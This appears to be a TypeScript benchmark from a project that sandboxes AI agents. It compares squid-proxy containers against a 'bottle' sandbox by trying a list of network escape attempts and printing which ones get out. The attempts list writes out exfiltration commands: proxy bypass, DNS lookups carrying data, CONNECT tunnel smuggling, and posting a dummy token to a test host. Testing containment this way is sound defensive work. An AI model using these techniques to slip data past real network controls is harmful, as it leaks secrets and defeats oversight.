// Prints what gets out of three set-ups: a container that is told of a proxy (squid, from Debian) by variables, one on an
// internal network with that proxy on it, and a bottle. Each attempt carries a mark; listeners judge. `--doc` writes the
// table into docs/comparison.md.
import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import Docker from 'dockerode'
import { openArena } from '../test/support/escapes/arena.ts'
import { openWorld, type World } from '../test/support/escapes/world.ts'
import { programOf } from '../test/support/gate/raise.ts'
import { presentGates } from '../test/support/gates.ts'
import { agentImage } from '../test/support/hosts/internet.ts'

const docker = new Docker()
const squidImage = 'bottle-bench/squid:1'
const kit = resolve(import.meta.dirname, '../test/support/escapes/inside')
// Of the form of a token of GitHub's, and nobody's.
const token = ['gh', 'p_', '7Qb2xKd9LmZ4vRt6WyH1sNc8JfUe3GaPo5Xi'].join('')

/** What is tried, in words and as a script; $HTTP_PROXY is set by the set-up, as an agent finds it. */
const attempts: readonly (readonly [string, string])[] = [
  ['a host that is not on the list, by the proxy', 'curl -sm 5 http://denied.test/$MARK'],
  ['the same host, the proxy ignored', "curl -sm 5 --noproxy '*' http://$DENIED/$MARK"],
  ['UDP to an address on the internet', '$T udp $INTERNET 53'],
  ["a port of the host, at its network's gateway", '$T tcp $GATEWAY $HOST_PORT'],
  ['a UDP port of the host, by broadcast', '$T shout 255.255.255.255 $HOST_PORT'],
  ['a look-up of a name that carries data', 'getent ahosts $MARK.example'],
  ['an allowed name that leads to an internal address', 'curl -sm 5 http://inner.test/$MARK'],
  [
    'a tunnel for an allowed host, TLS for another',
    '$T hello $PROXY_HOST $PROXY_PORT allowed.test:443 $MARK.denied.test',
  ],
  [
    'a tunnel for an allowed host, and neither TLS nor ssh in it',
    '$T via $PROXY_HOST $PROXY_PORT "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n|PAUSE|\\x00\\x01MARK"',
  ],
  ['another port of an allowed host', 'curl -sm 5 -p -x http://$PROXY_HOST:$PROXY_PORT http://allowed.test:8080/$MARK'],
  ['a token, in plain HTTP to an allowed host', 'curl -sm 5 -d "t=$TOKEN" http://allowed.test/$MARK'],
  ['the control: an allowed host', 'curl -sm 5 http://allowed.test/$MARK'],
]

interface SetUp {
  readonly name: string
  /** Runs a script with these variables where the agent's step would run. */
  run(script: string, mark: string): Promise<void>
}

const squidConf = `http_port 3128
acl allowed dstdomain allowed.test inner.test
acl CONNECT method CONNECT
acl SSL_ports port 443
http_access deny CONNECT !SSL_ports
http_access allow allowed
http_access deny all
cache deny all
pid_filename none
access_log none
cache_log /dev/null
shutdown_lifetime 0 seconds`

function bringSquid(): string {
  try {
    execFileSync('docker', ['image', 'inspect', squidImage], { stdio: 'ignore' })
  } catch {
    process.stderr.write('making an image of Debian’s squid …\n')
    const make = `set -o pipefail; mmdebstrap --quiet --variant=minbase --include=squid bookworm - | docker import - ${squidImage}`
    execFileSync('bash', ['-c', make], { stdio: ['ignore', 'ignore', 'inherit'] })
  }
  return execFileSync('docker', ['run', '--rm', '--network', 'none', squidImage, 'squid', '-v'], { encoding: 'utf8' })
    .split('\n')[0]
    ?.replace(/^.*Version /, '') as string
}

async function started(body: Docker.ContainerCreateOptions, undo: AsyncDisposableStack): Promise<Docker.Container> {
  const container = await docker.createContainer(body)
  undo.defer(() => container.remove({ force: true }))
  await container.start()
  return container
}

/** A container, and squid; on one network, or the container on an internal one that squid joins. */
async function withSquid(world: World, internal: boolean, undo: AsyncDisposableStack): Promise<SetUp> {
  const network = async (name: string, Internal: boolean) => {
    const made = await docker.createNetwork({
      Name: `bottle-compare-${world.nonce}-${name}`,
      Driver: 'bridge',
      Internal,
    })
    undo.defer(() => made.remove())
    return made
  }
  const outer = await network(internal ? 'outer' : 'plain', false)
  const inner = internal ? await network('inner', true) : outer
  const join = async (host: Docker.Container, to: Docker.Network, Aliases: string[]) => {
    await to.connect({ Container: host.id, EndpointConfig: { Aliases } })
    undo.defer(() => to.disconnect({ Container: host.id, Force: true }))
  }
  await join(world.hosts.allowed, outer, ['allowed.test'])
  await join(world.hosts.denied, outer, ['denied.test'])
  const write = `printf '%s\\n' "$CONF" >/tmp/squid.conf && exec squid -N -f /tmp/squid.conf`
  const squid = await started(
    {
      Image: squidImage,
      Entrypoint: ['sh', '-c', write],
      Env: [`CONF=${squidConf}`],
      HostConfig: { NetworkMode: outer.id },
    },
    undo,
  )
  await world.inner.connect({ Container: squid.id })
  if (internal) await inner.connect({ Container: squid.id })
  const at = (await squid.inspect()).NetworkSettings.Networks
  const address = async (host: Docker.Container, on: Docker.Network) =>
    Object.values((await host.inspect()).NetworkSettings.Networks).find(one => one.NetworkID === on.id)?.IPAddress ?? ''
  const proxy = Object.values(at).find(one => one.NetworkID === inner.id)?.IPAddress ?? (await address(squid, inner))
  const { IPAM } = await inner.inspect()
  const env = {
    ...world.env,
    PROXY_HOST: proxy,
    PROXY_PORT: '3128',
    http_proxy: `http://${proxy}:3128`,
    DENIED: await address(world.hosts.denied, outer),
    GATEWAY: IPAM?.Config?.[0]?.Gateway ?? '',
    TOKEN: token,
    T: 'python3 -I /kit/tools.py',
  }
  return {
    name: internal ? 'internal network, and squid' : 'proxy variables, and squid',
    async run(script, mark) {
      const Env = Object.entries({ ...env, MARK: mark }).map(([name, value]) => `${name}=${value}`)
      const container = await started(
        {
          Image: agentImage,
          Entrypoint: ['bash', '-c', script],
          Env,
          HostConfig: { NetworkMode: inner.id, Binds: [`${kit}:/kit:ro`], Dns: [world.env.INTERNET ?? ''] },
        },
        undo,
      )
      await container.wait()
    },
  }
}

const version = bringSquid()
await using world = await openWorld({ metadata: false })
await using undo = new AsyncDisposableStack()
const setUps: SetUp[] = [await withSquid(world, false, undo), await withSquid(world, true, undo)]
for (const gate of await presentGates()) {
  const arena = undo.use(await openArena(world, programOf(gate), []))
  await world.inner.connect({ Container: await sidecarOf(arena.plan.sidecar.name) })
  setUps.push({
    name: `a bottle, ${gate.name}`,
    async run(script, mark) {
      const known = { PROXY_PORT: '8888', GATEWAY: arena.plan.inside.gateway, TOKEN: token, MARK: mark }
      const told = `${script.replaceAll('$T ', 'python3 -I $KIT/tools.py ')} || true`
      await arena.run({ env: { ...known, ATTEMPT: told }, removals: [], say: () => {} })
    },
  })
}
const marks = setUps.map((_, column) => attempts.map((_, row) => mark(column * 100 + row)))
for (const [column, one] of setUps.entries())
  for (const [row, [, script]] of attempts.entries()) await one.run(script, marks[column]?.[row] ?? '')
await pause(300)
const { marks: seen } = await world.seen()
const cell = (column: number, row: number) => (seen.has(marks[column]?.[row] ?? '') ? 'arrives' : '·')
const table = [
  `| what is tried | ${setUps.map(one => one.name).join(' | ')} |`,
  `| --- | ${setUps.map(() => '---').join(' | ')} |`,
  ...attempts.map(([name], row) => `| ${name} | ${setUps.map((_, column) => cell(column, row)).join(' | ')} |`),
].join('\n')
console.log(`squid ${version}\n\n${table}`)
if (process.argv.includes('--doc')) {
  const path = resolve(import.meta.dirname, '../docs/comparison.md')
  const text = readFileSync(path, 'utf8')
  const written = text.replace(
    /(<!-- table -->\n)[\s\S]*?(<!-- end -->)/,
    (_, begin, end) => `${begin}${table}\n${end}`,
  )
  writeFileSync(path, written)
}

function mark(number: number): string {
  return `mk${world.nonce}x${String(number).padStart(4, '0')}z`
}

async function sidecarOf(name: string): Promise<string> {
  return (await docker.getContainer(name).inspect()).Id
}
